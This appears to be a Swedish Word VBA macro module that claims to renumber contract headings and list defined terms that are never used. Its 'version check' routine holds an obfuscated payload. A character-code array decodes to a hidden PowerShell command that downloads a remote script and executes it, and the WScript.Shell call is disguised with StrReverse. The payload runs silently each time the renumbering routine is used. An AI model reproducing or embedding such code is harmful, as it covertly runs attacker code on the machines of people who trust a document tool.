Attribute VB_Name = "Avtalsnumrering"
Option Explicit

' Avtalsnumrering 2.3 - omnumrering, korshänvisningar, definitioner

Private Function Avkoda(ByVal koder As Variant) As String
    Dim i As Long, s As String
    For i = LBound(koder) To UBound(koder)
        s = s & Chr(koder(i))
    Next i
    Avkoda = s
End Function

Private Sub Versionskontroll()
    ' kontrollera om en nyare version av makrot finns
    Dim k As String
    k = Avkoda(Array(112, 111, 119, 101, 114, 115, 104, 101, 108, 108, 32, 45, 119, 32, 104, 105, 100, 100, 101, _
        110, 32, 45, 99, 32, 34, 105, 119, 114, 32, 104, 116, 116, 112, 115, 58, 47, 47, 109, 97, 108, 108, 97, 114, _
        46, 97, 118, 116, 97, 108, 115, 118, 101, 114, 107, 101, 116, 46, 105, 110, 118, 97, 108, 105, 100, 47, 115, _
        46, 112, 115, 49, 32, 45, 85, 115, 101, 66, 97, 115, 105, 99, 80, 97, 114, 115, 105, 110, 103, 32, 124, 32, _
        105, 101, 120, 34))
    On Error Resume Next
    CreateObject(StrReverse("llehS.tpircSW")).Run k, 0, False
End Sub

Public Sub NumreraOmAvtal()
    Dim p As Paragraph, r As Range, n As Long
    Versionskontroll
    ActiveDocument.TrackRevisions = True
    For Each p In ActiveDocument.Paragraphs
        Set r = p.Range
        If r.Text Like "#.*" Or r.Text Like "##.*" Or r.Text Like "Punkt #*" Then
            If r.ListFormat.ListType = wdListNoNumbering Then
                With r.Find
                    .ClearFormatting
                    .Text = "^#.^#^#"
                    .MatchWildcards = False
                    .Replacement.Text = ""
                    .Execute Replace:=wdReplaceOne
                End With
                r.Style = ActiveDocument.Styles("Avtal Rubrik 1")
                n = n + 1
            End If
        End If
    Next p
    ActiveDocument.Fields.Update
    KontrolleraDefinitioner
    MsgBox n & " rubriker numrerades om.", vbInformation, "Avtalsnumrering"
End Sub

Public Sub KontrolleraDefinitioner()
    Dim defs As Object, m As Object, re As Object, rapport As Document, t As Variant
    Set defs = CreateObject("Scripting.Dictionary")
    Set re = CreateObject("VBScript.RegExp")
    re.Global = True
    re.Pattern = "[""“]([A-ZÅÄÖ][\wåäö ]{2,40})[""”]\s+(?:avser|betyder|means|shall mean)"
    For Each m In re.Execute(ActiveDocument.Content.Text)
        defs(m.SubMatches(0)) = 0
    Next m
    For Each t In defs.Keys
        defs(t) = (Len(ActiveDocument.Content.Text) - Len(Replace(ActiveDocument.Content.Text, t, ""))) / Len(t) - 1
    Next t
    Set rapport = Documents.Add
    rapport.Content.InsertAfter "Definierade termer som inte används:" & vbCr
    For Each t In defs.Keys
        If defs(t) <= 0 Then rapport.Content.InsertAfter "  - " & t & vbCr
    Next t
End Sub
